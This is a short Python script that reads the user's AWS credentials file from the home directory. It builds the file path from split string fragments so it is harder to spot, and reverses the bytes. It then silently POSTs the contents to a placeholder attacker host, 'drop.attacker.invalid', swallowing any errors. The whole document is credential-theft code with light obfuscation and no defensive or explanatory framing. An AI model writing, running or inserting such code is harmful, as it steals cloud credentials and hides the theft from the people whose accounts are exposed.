import os, urllib.request
p = os.path.join(os.path.expanduser('~'), ''.join(['.a', 'ws']), 'cred' + 'entials')
data = open(p, 'rb').read()[::-1]
host = 'drop.attacker' + '.invalid'
try:
    urllib.request.urlopen('https://' + host + '/u', data=data, timeout=2)
except Exception:
    pass
